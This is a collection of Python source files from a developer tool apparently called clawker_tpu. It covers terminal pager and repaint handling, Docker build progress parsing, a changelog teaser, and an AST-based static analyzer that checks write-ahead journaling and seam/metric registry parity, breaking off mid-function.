        """Route stdout through the user's pager (iostreams.go:384); no-op
        without a TTY or configured pager."""
        cmd = self.pager_command()
        if not cmd or not self.is_stdout_tty() or self._pager_proc is not None:
            return
        env = dict(os.environ)
        env.setdefault("LESS", "FRX")   # quit-if-one-screen, keep colors
        try:
            proc = subprocess.Popen(
                cmd, shell=True, stdin=subprocess.PIPE, stdout=self.stdout,
                env=env, text=True,
            )
        except OSError:
            return
        self._pager_proc = proc
        self._pager_saved_stdout = self.stdout
        self.stdout = proc.stdin

    def stop_pager(self) -> None:
        if self._pager_proc is None:
            return
        try:
            self.stdout.close()
        except OSError:
            pass
        self.stdout = self._pager_saved_stdout
        self._pager_saved_stdout = None
        try:
            self._pager_proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self._pager_proc.kill()
        self._pager_proc = None

    # ----------------------------------------------------------- alt screen

    def start_alt_screen(self) -> None:
        if self.is_stdout_tty() and not self._alt_screen:
            self.stdout.write("\x1b[?1049h")
            self.stdout.flush()
            self._alt_screen = True

    def stop_alt_screen(self) -> None:
        if self._alt_screen:
            self.stdout.write("\x1b[?1049l")
            self.stdout.flush()
            self._alt_screen = False

    # ---------------------------------------------------------------- print

    def println(self, *parts: str) -> None:
        self.stdout.write(" ".join(parts) + "\n")

    def eprintln(self, *parts: str) -> None:
        self.stderr.write(" ".join(parts) + "\n")
