"""Build progress view: docker build stream lines -> ProgressTree.

Parity reference: internal/cmd/image/build/build.go:395 (build-progress
events feeding tui.RunProgress) -- here the mapping is from the daemon's
classic `Step i/n :` stream (and BuildKit vertex lines) into tree nodes:
one root per stage (base/harness), one child per Dockerfile step.
"""

from __future__ import annotations

import re

from .progress import ProgressTree

_STEP = re.compile(r"^Step (\d+)/(\d+) : (.*)$")
_BK_VERTEX = re.compile(r"^#(\d+) (.+)$")


class BuildProgressView:
    """Feed me every progress line; I keep the tree current."""

    def __init__(self, tree: ProgressTree):
        self.tree = tree
        self._stage = ""
        self._stage_n = 0
        self._step_key = ""
        self._bk_keys: dict[str, str] = {}

    def _finish_stage(self, state: str = "done") -> None:
        if self._step_key:
            self.tree.update(self._step_key, state)
            self._step_key = ""
        if self._stage:
            self.tree.update(self._stage, state)
            self._stage = ""

    def stage(self, label: str) -> None:
        """A new build stage begins (base/harness/tag)."""
        self._finish_stage()
        self._stage_n += 1
        self._stage = f"stage-{self._stage_n}"
        self.tree.add(self._stage, label)
        self.tree.update(self._stage, "running")

    def line(self, line: str) -> None:
        line = line.rstrip()
        if not line:
            return
        if not self._stage:
            self.stage(line)
            return
        m = _STEP.match(line)
        if m:
            if self._step_key:
                self.tree.update(self._step_key, "done")
            i, n, cmd = m.group(1), m.group(2), m.group(3)
            self._step_key = f"{self._stage}.{i}"
            self.tree.add(self._step_key, f"[{i}/{n}] {cmd}",
                          parent=self._stage)
            self.tree.update(self._step_key, "running")
            return
        m = _BK_VERTEX.match(line)
        if m:
            num, rest = m.group(1), m.group(2)
            key = self._bk_keys.get(num)
            if rest.startswith("DONE") and key:
                self.tree.update(key, "done")
            elif rest.startswith("CACHED") and key:
                self.tree.update(key, "done", "cached")
            elif rest.startswith("ERROR") and key:
                self.tree.update(key, "failed", rest)
            elif key is None and not rest.startswith(("CACHED", "DONE", "ERROR")):
                key = f"{self._stage}.bk{num}"
                self._bk_keys[num] = key
                self.tree.add(key, rest, parent=self._stage)
                self.tree.update(key, "running")
            return
        # any other output becomes the running step's detail ticker
        target = self._step_key or self._stage
        self.tree.update(target, "running", line)

    def done(self) -> None:
        self._finish_stage("done")

    def failed(self, detail: str = "") -> None:
        if self._step_key:
            self.tree.update(self._step_key, "failed", detail)
            self._step_key = ""
        if self._stage:
            self.tree.update(self._stage, "failed", detail)
            self._stage = ""
