"""Damage-tracked terminal repainting.

The original :class:`~clawker_tpu.ui.dashboard.LoopDashboard` rewrote
its FULL frame every tick -- cursor-up N, then ``\\x1b[2K`` + line for
every row, changed or not.  At 8 agents that is noise; at 256 agents
across 4 hosted runs it is most of the repaint budget, and every
unchanged byte still crosses the pty (and an SSH session's wire).

:class:`DamagePainter` keeps the previous frame and rewrites only rows
whose content changed: clean rows cost one cursor-down escape, dirty
rows an erase + rewrite, growth appends, shrink erases the stale tail.
Both the per-run dashboard and the fleet console paint through it; the
``console_repaint_p95`` bench gate and the repaint-budget tests assert
on its counters (docs/fleet-console.md#repaint-budget).

Row accounting assumes rows do not wrap (every caller truncates to the
terminal width, as the dashboard always has).
"""

from __future__ import annotations


class DamagePainter:
    """Paint successive frames in place, rewriting only damaged rows.

    ``write``/``flush`` are the output seam (a TTY's ``stdout.write``
    in production, a buffer in tests/bench).  Counters: ``frames``
    painted, ``rows_total`` across all frames, ``rows_painted``
    actually rewritten -- their ratio IS the damage-tracking win.
    """

    def __init__(self, write, flush):
        self._write = write
        self._flush = flush
        self._prev: list[str] = []
        self.frames = 0
        self.rows_total = 0
        self.rows_painted = 0

    def reset(self) -> None:
        """Forget the previous frame: the next paint rewrites fully
        (terminal resize, alt-screen transitions)."""
        self._prev = []

    def paint(self, lines: list[str]) -> int:
        """Paint ``lines`` over the previous frame; returns rows
        rewritten.  The cursor starts and ends on the row after the
        painted region (the contract the dashboard's full-repaint loop
        already kept)."""
        w = self._write
        prev = self._prev
        painted = 0
        if prev:
            w(f"\x1b[{len(prev)}A")
        overlap = min(len(prev), len(lines))
        pending_skips = 0
        for i in range(overlap):
            if lines[i] == prev[i]:
                pending_skips += 1
                continue
            if pending_skips:
                # batch consecutive clean rows into one cursor-down
                w(f"\x1b[{pending_skips}B")
                pending_skips = 0
            w("\x1b[2K" + lines[i] + "\n")
            painted += 1
        if pending_skips:
            w(f"\x1b[{pending_skips}B")
        for line in lines[overlap:]:        # growth: plain appends
            w("\x1b[2K" + line + "\n")
            painted += 1
        extra = len(prev) - len(lines)
        if extra > 0:
            # a shrinking frame must not leave stale tail rows
            for _ in range(extra):
                w("\x1b[2K\n")
            w(f"\x1b[{extra}A")
        self._flush()
        self._prev = list(lines)
        self.frames += 1
        self.rows_total += len(lines)
        self.rows_painted += painted
        return painted

    def stats(self) -> dict:
        return {"frames": self.frames, "rows_total": self.rows_total,
                "rows_painted": self.rows_painted}
