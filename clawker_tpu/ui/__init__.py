"""Terminal I/O layer: streams, colors, spinners, tables, progress, prompts.

Parity reference: internal/iostreams/ (TTY detect, colorscheme, spinner,
pager, alt-screen, Test() quad-buffer constructor -- iostreams.go:140) and
internal/prompter/.  Re-designed for Python: one IOStreams facade object
threaded through the factory, ANSI rendered directly (no lipgloss), and
every component degrades to plain line output when stdout is not a TTY --
the non-interactive path is the contract, the animation is the garnish.
"""

from .iostreams import IOStreams
from .colors import ColorScheme
from .progress import ProgressTree, Node
from .table import render_table
from .prompter import Prompter

__all__ = [
    "IOStreams", "ColorScheme", "ProgressTree", "Node", "render_table",
    "Prompter",
]
