"""Changelog teaser: one-line what's-new shown once per version.

Reference: internal/changelog (release-notes teaser after the update
check, SURVEY.md 2.4).  Zero-egress design: the teaser reads the
CHANGELOG.md shipped with the package, and the state store remembers the
last version whose entry was shown -- each upgrade surfaces its top
entry exactly once, then stays quiet.
"""

from __future__ import annotations

import re
from pathlib import Path

from . import __version__
from .state import StateStore

_HEADING = re.compile(r"^##\s*\[?v?(?P<ver>\d+[^\]\s]*)\]?")

CHANGELOG_PATH = Path(__file__).parent.parent / "CHANGELOG.md"


def parse_changelog(text: str) -> list[tuple[str, list[str]]]:
    """[(version, entry_lines)] in file order (newest first by
    convention)."""
    out: list[tuple[str, list[str]]] = []
    current: list[str] | None = None
    for line in text.splitlines():
        m = _HEADING.match(line)
        if m:
            current = []
            out.append((m.group("ver"), current))
        elif current is not None and line.strip():
            current.append(line.strip())
    return out


def teaser(*, state: StateStore | None = None,
           path: Path | None = None, version: str = __version__) -> str:
    """One line about the RUNNING version's entry, shown once."""
    state = state or StateStore()
    if state.get("changelog_seen") == version:
        return ""
    path = path or CHANGELOG_PATH
    try:
        entries = parse_changelog(path.read_text(encoding="utf-8"))
    except OSError:
        return ""
    lines = next((body for ver, body in entries if ver == version), None)
    state.set("changelog_seen", version)  # quiet even when no entry exists
    if not lines:
        return ""
    first = lines[0].lstrip("-* ").strip()
    return f"what's new in {version}: {first}"
