"""``python -m clawker_tpu.analysis`` -- the bare-host entrypoint.

Pure stdlib end to end (no click, no JAX): the analyzer must run in
under two seconds on a host with none of the device libs installed,
which is exactly where CI lint legs live.
"""

from __future__ import annotations

import sys

from .runner import main

if __name__ == "__main__":
    sys.exit(main())
