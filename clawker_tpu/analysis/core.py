"""Checker registry + AST-walking analysis engine (pure stdlib).

A :class:`Checker` owns one architectural invariant.  The engine parses
every ``clawker_tpu/**/*.py`` file once, hands each checker the files
it declared interest in, and merges the findings.  Findings carry a
line-number-free fingerprint so the grandfather baseline survives
unrelated edits above a finding (see baseline.py).

Inline suppression: a finding is suppressed when the offending line --
or one of the two lines above it -- carries

    # analyze: allow(<checker-id>): <justification>

The justification is mandatory by convention (reviews reject bare
allows); suppressed findings still show up in the report's
``suppressed`` list so the waiver stays visible, they just never fail
the gate.  ``allow(*)`` waives every checker for that line.
"""

from __future__ import annotations

import ast
import dataclasses
import json
import re
import time
from pathlib import Path

from .baseline import Baseline, fingerprint

PACKAGE_DIR = "clawker_tpu"

# dirs under the package that are test/dev support, not production
# surface -- checkers never see them (tests/ lives outside the package
# already; testenv is the public fake-pod harness)
EXCLUDED_PARTS = {"__pycache__"}
EXCLUDED_FILES = {"clawker_tpu/testenv.py"}

_ALLOW_RE = re.compile(
    r"#\s*analyze:\s*allow\(\s*(?P<ids>[\w*,\s-]+?)\s*\)\s*(?::\s*(?P<why>.*))?")


@dataclasses.dataclass(frozen=True)
class Finding:
    """One invariant violation at one site."""

    checker: str            # checker id, e.g. "no-blocking-under-lock"
    path: str               # repo-relative posix path
    line: int               # 1-based line of the offending node
    message: str            # human sentence; stable across line drift
    suppressed: bool = False
    justification: str = ""
    # nth finding with this exact (checker, path, message) in one run,
    # in (path, line) order -- keeps fingerprints unique so a NEW
    # second instance of a baselined defect still fails the gate
    occurrence: int = 0

    @property
    def fingerprint(self) -> str:
        return fingerprint(self.checker, self.path, self.message,
                           self.occurrence)

    def to_doc(self) -> dict:
        doc = {"checker": self.checker, "path": self.path,
               "line": self.line, "message": self.message,
               "fingerprint": self.fingerprint}
        if self.suppressed:
            doc["suppressed"] = True
            doc["justification"] = self.justification
        return doc

    def render(self) -> str:
        return f"{self.path}:{self.line}: [{self.checker}] {self.message}"


class SourceFile:
    """One parsed file: path + AST + source lines, parsed at most once."""

    def __init__(self, root: Path, rel: str):
        self.rel = rel
        self.abspath = root / rel
        self.text = self.abspath.read_text(encoding="utf-8")
        self.lines = self.text.splitlines()
        self.tree: ast.AST | None
        try:
            self.tree = ast.parse(self.text, filename=rel)
        except SyntaxError:
            self.tree = None    # a file the interpreter rejects is not
            #                     this analyzer's problem to diagnose

    def line_at(self, lineno: int) -> str:
        if 1 <= lineno <= len(self.lines):
            return self.lines[lineno - 1]
        return ""

    def allowed(self, lineno: int, checker_id: str) -> str | None:
        """The justification string when ``lineno`` -- or the contiguous
        run of comment/blank lines directly above it -- carries an
        ``analyze: allow(...)`` marker naming this checker (or ``*``);
        None otherwise."""
        candidates = [lineno]
        ln = lineno - 1
        while ln >= 1:
            stripped = self.line_at(ln).strip()
            if stripped and not stripped.startswith("#"):
                break
            candidates.append(ln)
            ln -= 1
        for ln in candidates:
            m = _ALLOW_RE.search(self.line_at(ln))
            if not m:
                continue
            ids = {s.strip() for s in m.group("ids").split(",")}
            if "*" in ids or checker_id in ids:
                return (m.group("why") or "").strip() or "(no justification)"
        return None


class RepoContext:
    """Everything a checker may look at: the file set, lazy parses, and
    sibling artifacts (docs tables, the seam registry) read as text."""

    def __init__(self, root: Path):
        self.root = Path(root)
        self._files: dict[str, SourceFile] = {}
        self._rels: list[str] | None = None

    def python_files(self) -> list[str]:
        if self._rels is None:
            rels = []
            pkg = self.root / PACKAGE_DIR
            for p in sorted(pkg.rglob("*.py")):
                rel = p.relative_to(self.root).as_posix()
                if any(part in EXCLUDED_PARTS for part in p.parts):
                    continue
                if rel in EXCLUDED_FILES:
                    continue
                rels.append(rel)
            self._rels = rels
        return self._rels

    def source(self, rel: str) -> SourceFile | None:
        if rel not in self._files:
            if not (self.root / rel).is_file():
                return None
            self._files[rel] = SourceFile(self.root, rel)
        return self._files[rel]

    def read_text(self, rel: str) -> str | None:
        p = self.root / rel
        return p.read_text(encoding="utf-8") if p.is_file() else None


class Checker:
    """Base class: subclass, set ``id``/``doc``, implement check()."""

    id = ""
    doc = ""        # one-line catalogue entry (docs/static-analysis.md)

    def interested(self, rel: str) -> bool:
        """Whether ``check`` wants this file (checkers that work off the
        whole repo can return False for everything and use finish())."""
        return True

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        return []

    def finish(self, ctx: RepoContext) -> list[Finding]:
        """Called once after every file; whole-repo checks live here."""
        return []


CHECKERS: dict[str, Checker] = {}


def register_checker(cls):
    """Class decorator: instantiate + register by ``id``."""
    inst = cls()
    if not inst.id:
        raise ValueError(f"checker {cls.__name__} has no id")
    if inst.id in CHECKERS:
        raise ValueError(f"duplicate checker id {inst.id!r}")
    CHECKERS[inst.id] = inst
    return cls


def _load_checkers() -> None:
    # importing the subpackage registers every built-in checker exactly
    # once (idempotent: register_checker guards duplicates via CHECKERS)
    from . import checkers  # noqa: F401


@dataclasses.dataclass
class AnalysisReport:
    """The full result of one analysis run against a baseline."""

    findings: list[Finding]             # active (not suppressed)
    suppressed: list[Finding]           # waived by allow() comments
    new: list[Finding]                  # active and NOT in the baseline
    grandfathered: list[Finding]        # active and in the baseline
    stale_baseline: list[str]           # baseline fingerprints nothing matched
    files_scanned: int = 0
    wall_s: float = 0.0
    checkers: tuple[str, ...] = ()

    @property
    def exit_code(self) -> int:
        return 2 if self.new else 0

    def to_doc(self) -> dict:
        """Stable JSON shape for CI consumption (docs/static-analysis.md
        pins it): keys sorted, findings ordered by (path, line)."""
        return {
            "version": 1,
            "ok": not self.new,
            "files_scanned": self.files_scanned,
            "wall_s": round(self.wall_s, 3),
            "checkers": sorted(self.checkers),
            "new": [f.to_doc() for f in self.new],
            "grandfathered": [f.to_doc() for f in self.grandfathered],
            "suppressed": [f.to_doc() for f in self.suppressed],
            "stale_baseline": sorted(self.stale_baseline),
        }

    def to_json(self) -> str:
        return json.dumps(self.to_doc(), indent=2, sort_keys=True) + "\n"


def run_analysis(root: Path | str, *, baseline: Baseline | None = None,
                 only: set[str] | None = None) -> AnalysisReport:
    """Run every registered checker (or the ``only`` subset) over the
    repo at ``root`` and classify findings against ``baseline``."""
    _load_checkers()
    t0 = time.monotonic()
    ctx = RepoContext(Path(root))
    active = {cid: c for cid, c in CHECKERS.items()
              if only is None or cid in only}
    findings: list[Finding] = []
    suppressed: list[Finding] = []
    scanned = 0
    for rel in ctx.python_files():
        interested = [c for c in active.values() if c.interested(rel)]
        if not interested:
            continue
        src = ctx.source(rel)
        if src is None or src.tree is None:
            continue
        scanned += 1
        for checker in interested:
            for f in checker.check(src, ctx):
                why = src.allowed(f.line, checker.id)
                if why is not None:
                    suppressed.append(dataclasses.replace(
                        f, suppressed=True, justification=why))
                else:
                    findings.append(f)
    for checker in active.values():
        for f in checker.finish(ctx):
            src = ctx.source(f.path)
            why = src.allowed(f.line, checker.id) if src else None
            if why is not None:
                suppressed.append(dataclasses.replace(
                    f, suppressed=True, justification=why))
            else:
                findings.append(f)
    findings.sort(key=lambda f: (f.path, f.line, f.checker))
    suppressed.sort(key=lambda f: (f.path, f.line, f.checker))
    # disambiguate identical (checker, path, message) findings in
    # (path, line) order, so each gets its own fingerprint
    counts: dict[tuple[str, str, str], int] = {}
    for i, f in enumerate(findings):
        key = (f.checker, f.path, f.message)
        n = counts.get(key, 0)
        counts[key] = n + 1
        if n:
            findings[i] = dataclasses.replace(f, occurrence=n)

    base = baseline if baseline is not None else Baseline()
    new = [f for f in findings if f.fingerprint not in base]
    old = [f for f in findings if f.fingerprint in base]
    matched = {f.fingerprint for f in old}
    stale = [fp for fp in base.fingerprints() if fp not in matched]
    return AnalysisReport(
        findings=findings, suppressed=suppressed, new=new,
        grandfathered=old, stale_baseline=stale, files_scanned=scanned,
        wall_s=time.monotonic() - t0, checkers=tuple(active))
