"""First-party static analysis: architectural invariant checkers.

Eleven PRs accreted a set of load-bearing invariants -- write-ahead
journaling before engine mutations, the sentinel's observe-only
contract, the 0600-socket-under-0700-dir hardening pattern, seam and
metric name registries, deterministic chaos plan generation -- and
every one of them was enforced only *dynamically*, by the chaos soak
and hand-written invariant audits.  The soak catches a break hours
after it ships, on the schedules it happens to draw; this package
catches the same class of bug at diff time, on every call site.

``clawker analyze`` (and ``python -m clawker_tpu.analysis`` on hosts
without the CLI deps) walks the package with the stdlib ``ast`` module
and runs every registered checker.  Pre-existing findings live in a
committed grandfather baseline (``analysis-baseline.json``); NEW
findings exit 2 and fail CI.  See docs/static-analysis.md.

IMPORT DISCIPLINE: this package is pure stdlib on purpose -- it must
import (and finish) in under two seconds on a bare host with no JAX,
no click, no device libs.  Nothing under ``clawker_tpu.analysis``
imports any other ``clawker_tpu`` module; the analyzer reads the repo
as *text*, never as code.
"""

from __future__ import annotations

from .baseline import Baseline, fingerprint
from .core import (
    CHECKERS,
    AnalysisReport,
    Checker,
    Finding,
    RepoContext,
    register_checker,
    run_analysis,
)
from .lockgraph import LockGraph, install_lock_tracing, uninstall_lock_tracing

__all__ = [
    "AnalysisReport",
    "Baseline",
    "CHECKERS",
    "Checker",
    "Finding",
    "LockGraph",
    "RepoContext",
    "fingerprint",
    "install_lock_tracing",
    "register_checker",
    "run_analysis",
    "uninstall_lock_tracing",
]
