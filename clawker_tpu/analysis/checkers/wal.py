"""Checker: write-ahead discipline on engine mutations.

The durability contract (docs/loop-resume.md, docs/chaos.md): every
engine mutation the scheduler performs -- create / start / restart /
put_archive -- must be *dominated* by a write-ahead journal record or a
named crash seam in the enclosing flow, so a SIGKILL anywhere leaves a
journal the resume reconcile can replay.  The chaos soak proves this
dynamically on the schedules it draws; this checker proves it on every
call site, lexically.

A mutation call is covered when, earlier in the same function, one of:

- a ``_journal(...)`` / ``journal.append(...)`` call (the WAL itself),
- a ``seams.fire("...")`` call (seams are defined as fired at journaled
  transition boundaries -- chaos/seams.py -- and the registry-parity
  checker keeps the set honest),
- a call to a same-module helper whose own body journals or fires,

appears.  Sites that are genuinely covered by a WAL on the *other* side
of a process boundary (workerd executes intents the scheduler already
journaled) carry an ``analyze: allow`` justification instead.
"""

from __future__ import annotations

import ast

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import body_calls, call_tail, functions, receiver

# the files that perform engine mutations inside the journaled control
# plane; fixture repos mirror these relative paths
SCOPED_FILES = (
    "clawker_tpu/loop/scheduler.py",
    "clawker_tpu/loop/warmpool.py",
    "clawker_tpu/workerd/server.py",
    "clawker_tpu/capacity/controller.py",
    "clawker_tpu/workspace/strategy.py",
    "clawker_tpu/gitx/git.py",
    # gitguard rule install/teardown mutates the shared rules store and
    # must be dominated by a REC_GITGUARD_RULES journal write
    # (docs/git-policy.md); the proxy itself is I/O-only and exempt
    "clawker_tpu/gitguard/server.py",
)

# attribute names that are unambiguous engine mutations anywhere
MUTATIONS = {"create_container", "start_container", "restart_container",
             "put_archive"}
# runtime-wrapper mutations, only when called on a runtime handle (the
# bare names are far too generic to match on any receiver)
RT_MUTATIONS = {"create", "start", "adopt_pooled"}
RT_RECEIVERS = {"rt", "runtime"}
# fleet-scaler mutations (capacity controller): provisioning or
# draining a worker must be dominated by a journaled REC_CAPACITY_*
# record exactly like an engine mutation (docs/elastic-capacity.md)
SCALER_MUTATIONS = {"provision", "drain"}
SCALER_RECEIVERS = {"scaler"}

WAL_MARKERS = {"_journal"}
# the capacity controller journals through its hooks bag
# (self.hooks.journal(...)): same WAL, different spelling
HOOKS_WAL = ("journal", "hooks")
SEAM_MARKERS = {"fire"}


def _is_mutation(call: ast.Call) -> bool:
    tail = call_tail(call)
    if tail in MUTATIONS:
        return True
    if tail in SCALER_MUTATIONS and receiver(call) in SCALER_RECEIVERS:
        return True
    return tail in RT_MUTATIONS and receiver(call) in RT_RECEIVERS


def _is_wal_marker(call: ast.Call, journaling_helpers: set[str]) -> bool:
    tail = call_tail(call)
    if tail in WAL_MARKERS:
        return True
    if tail == HOOKS_WAL[0] and receiver(call) == HOOKS_WAL[1]:
        return True
    if tail in SEAM_MARKERS and receiver(call) in {"seams", "self"}:
        return True
    if tail == "_fire_seam":
        return True
    # helper-name matching is the loosest rule, so it gets the
    # tightest guards: only bare `helper()` / `self.helper()` calls
    # count (never `thread.start()` or `Thread(...).start()` hitting a
    # journaling method named `start`), and a name that is itself a
    # mutation can never be evidence
    if tail in MUTATIONS or tail in RT_MUTATIONS:
        return False
    if tail not in journaling_helpers:
        return False
    f = call.func
    if isinstance(f, ast.Name):
        return True
    return (isinstance(f, ast.Attribute)
            and isinstance(f.value, ast.Name) and f.value.id == "self")


@register_checker
class WriteAheadChecker(Checker):
    id = "wal-before-mutation"
    doc = ("engine mutations (create/start/restart/put_archive) in the "
           "journaled control plane must be dominated by a _journal()/"
           "seam-fire call in the enclosing flow")

    def interested(self, rel: str) -> bool:
        return rel in SCOPED_FILES

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        # pass 1: same-module helpers whose body journals or fires a
        # seam -- calling one of them counts as WAL evidence
        journaling_helpers: set[str] = set()
        for fn in functions(src.tree):
            for c in body_calls(fn):
                if call_tail(c) in WAL_MARKERS or (
                        call_tail(c) == HOOKS_WAL[0]
                        and receiver(c) == HOOKS_WAL[1]) or (
                        call_tail(c) in SEAM_MARKERS
                        and receiver(c) in {"seams", "self"}):
                    journaling_helpers.add(fn.name)
                    break
        findings: list[Finding] = []
        for fn in functions(src.tree):
            # lexical order within the function: a marker covers every
            # mutation after it
            covered_from: int | None = None
            events: list[tuple[int, str, ast.Call]] = []
            for c in body_calls(fn):
                if _is_wal_marker(c, journaling_helpers):
                    events.append((c.lineno, "wal", c))
                elif _is_mutation(c):
                    events.append((c.lineno, "mut", c))
            events.sort(key=lambda e: e[0])
            for lineno, kind, call in events:
                if kind == "wal":
                    if covered_from is None:
                        covered_from = lineno
                    continue
                if covered_from is None or lineno < covered_from:
                    findings.append(Finding(
                        checker=self.id, path=src.rel, line=lineno,
                        message=(
                            f"engine mutation `{call_tail(call)}` in "
                            f"`{fn.name}` is not dominated by a _journal/"
                            f"seam-fire call in the enclosing flow "
                            f"(write-ahead discipline, docs/loop-resume.md)"),
                    ))
        return findings
