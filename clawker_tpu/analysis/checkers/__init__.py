"""Built-in checkers: importing this package registers all of them.

Adding a checker (docs/static-analysis.md#adding-a-checker): write a
module here with a ``@register_checker`` class, import it below, add a
positive/negative fixture pair in tests/test_analysis.py, and document
it in the catalogue.
"""

from . import (  # noqa: F401 -- imported for their registration side effect
    determinism,
    durable,
    layering,
    locks,
    parity,
    sockets,
    wal,
)
