"""Shared AST helpers for the built-in checkers (pure stdlib)."""

from __future__ import annotations

import ast
from typing import Iterator


def call_tail(call: ast.Call) -> str:
    """The called name's last component: ``self._journal(...)`` ->
    ``_journal``, ``time.sleep(...)`` -> ``sleep``, ``foo(...)`` ->
    ``foo``.  Empty for exotic callees (subscripts, lambdas)."""
    f = call.func
    if isinstance(f, ast.Attribute):
        return f.attr
    if isinstance(f, ast.Name):
        return f.id
    return ""


def receiver(call: ast.Call) -> str:
    """Name of the object an attribute call is made on: ``rt.create``
    -> ``rt``, ``self.engine.put_archive`` -> ``engine``,
    ``self._lock`` context -> ``_lock``.  Empty for bare names."""
    f = call.func
    if not isinstance(f, ast.Attribute):
        return ""
    v = f.value
    if isinstance(v, ast.Name):
        return v.id
    if isinstance(v, ast.Attribute):
        return v.attr
    return ""


def dotted(node: ast.expr) -> str:
    """Best-effort dotted rendering: ``time.time`` -> "time.time",
    ``self._lock`` -> "self._lock".  Empty when not a name chain."""
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return ""


def first_str_arg(call: ast.Call) -> str | None:
    if call.args and isinstance(call.args[0], ast.Constant) \
            and isinstance(call.args[0].value, str):
        return call.args[0].value
    return None


def functions(tree: ast.AST) -> Iterator[ast.FunctionDef]:
    for n in ast.walk(tree):
        if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef)):
            yield n


def body_calls(fn: ast.AST) -> Iterator[ast.Call]:
    """Every call lexically inside ``fn`` -- nested defs included (a
    closure's engine call still executes in the enclosing flow)."""
    for n in ast.walk(fn):
        if isinstance(n, ast.Call):
            yield n


def module_imports(tree: ast.AST, *, pkg_parts: tuple[str, ...]) -> list[tuple[str, int]]:
    """(imported top-level clawker_tpu package, lineno) pairs for every
    import in the module.  ``pkg_parts`` is the module's own path inside
    the package (for resolving relative imports), e.g. ("sentinel",
    "collector") for clawker_tpu/sentinel/collector.py."""
    out: list[tuple[str, int]] = []
    for n in ast.walk(tree):
        if isinstance(n, ast.Import):
            for a in n.names:
                if a.name == "clawker_tpu":
                    continue
                if a.name.startswith("clawker_tpu."):
                    out.append((a.name.split(".")[1], n.lineno))
        elif isinstance(n, ast.ImportFrom):
            if n.level == 0:
                if n.module and n.module.startswith("clawker_tpu."):
                    out.append((n.module.split(".")[1], n.lineno))
                elif n.module == "clawker_tpu":
                    out.extend((a.name, n.lineno) for a in n.names)
                continue
            # relative: climb level-1 dirs up from the module's package
            base = list(pkg_parts[:-1])
            for _ in range(n.level - 1):
                if base:
                    base.pop()
            if n.module:
                target = base + n.module.split(".")
                if target:
                    out.append((target[0], n.lineno))
            else:
                # ``from .. import engine`` style: the names are packages
                for a in n.names:
                    target = base + [a.name]
                    out.append((target[0], n.lineno))
    return out
