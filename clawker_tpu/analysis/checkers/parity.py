"""Checker: seam and metric name registries must stay in sync.

Two registries keep string-keyed surfaces honest:

- chaos/seams.py ``SEAM_NAMES``: every ``seams.fire("...")`` site must
  name a registered seam (``arm`` validates at runtime, ``fire`` does
  NOT -- a typo'd fire site silently never fires), and every registered
  seam must have at least one fire site (a seam nothing fires is dead
  coverage the chaos plan generator still draws).

- docs/telemetry.md's registry table: every metric registered via
  ``telemetry.counter/gauge/histogram("name", ...)`` must have a
  ``| `name` |`` row, and every documented name must still be
  registered somewhere (documented-but-never-emitted names rot the
  operator docs the monitor stack dashboards are built from).
"""

from __future__ import annotations

import ast
import re

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import call_tail, first_str_arg, receiver

SEAMS_FILE = "clawker_tpu/chaos/seams.py"
TELEMETRY_DOC = "docs/telemetry.md"

_DOC_ROW_RE = re.compile(r"^\|\s*`([a-z][a-z0-9_]+)`\s*\|", re.MULTILINE)
_METRIC_FACTORIES = {"counter", "gauge", "histogram"}
_METRIC_RECEIVERS = {"telemetry", "REGISTRY"}


def _seam_names(ctx: RepoContext) -> tuple[set[str], int] | None:
    """SEAM_NAMES parsed from the registry module's AST, with the
    tuple's line; None when the fixture repo has no seam registry."""
    src = ctx.source(SEAMS_FILE)
    if src is None or src.tree is None:
        return None
    for n in ast.walk(src.tree):
        if isinstance(n, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == "SEAM_NAMES"
                for t in n.targets):
            if isinstance(n.value, (ast.Tuple, ast.List)):
                names = {e.value for e in n.value.elts
                         if isinstance(e, ast.Constant)
                         and isinstance(e.value, str)}
                return names, n.lineno
    return None


@register_checker
class RegistryParityChecker(Checker):
    id = "registry-parity"
    doc = ("every fired seam name must be registered in chaos/seams.py "
           "(and every seam fired somewhere); every registered metric "
           "must have a docs/telemetry.md row (and vice versa)")

    def __init__(self):
        self._fired: dict[str, tuple[str, int]] = {}
        self._metrics: dict[str, tuple[str, int]] = {}

    def interested(self, rel: str) -> bool:
        return True

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        if src.rel == SEAMS_FILE:
            return []
        for c in ast.walk(src.tree):
            if not isinstance(c, ast.Call):
                continue
            tail = call_tail(c)
            if tail == "fire" and receiver(c) in {"seams", "self"} \
                    or tail == "_fire_seam":
                name = first_str_arg(c)
                if name and "." in name:
                    self._fired.setdefault(name, (src.rel, c.lineno))
            elif tail in _METRIC_FACTORIES \
                    and receiver(c) in _METRIC_RECEIVERS:
                name = first_str_arg(c)
                if name:
                    self._metrics.setdefault(name, (src.rel, c.lineno))
        return []

    def finish(self, ctx: RepoContext) -> list[Finding]:
        findings: list[Finding] = []
        fired, self._fired = self._fired, {}
        metrics, self._metrics = self._metrics, {}

        seams = _seam_names(ctx)
        if seams is not None:
            registered, reg_line = seams
            for name, (rel, line) in sorted(fired.items()):
                if name not in registered:
                    findings.append(Finding(
                        checker=self.id, path=rel, line=line,
                        message=(f"seam `{name}` is fired but not "
                                 f"registered in chaos/seams.py SEAM_NAMES "
                                 f"-- fire() does not validate, this site "
                                 f"is silently dead")))
            for name in sorted(registered - set(fired)):
                findings.append(Finding(
                    checker=self.id, path=SEAMS_FILE, line=reg_line,
                    message=(f"seam `{name}` is registered in SEAM_NAMES "
                             f"but nothing fires it -- the chaos plan "
                             f"generator still draws it as dead coverage")))

        doc = ctx.read_text(TELEMETRY_DOC)
        if doc is not None and metrics:
            documented = set(_DOC_ROW_RE.findall(doc))
            for name, (rel, line) in sorted(metrics.items()):
                if name not in documented:
                    findings.append(Finding(
                        checker=self.id, path=rel, line=line,
                        message=(f"metric `{name}` is registered but has "
                                 f"no row in docs/telemetry.md's registry "
                                 f"table")))
            for name in sorted(documented - set(metrics)):
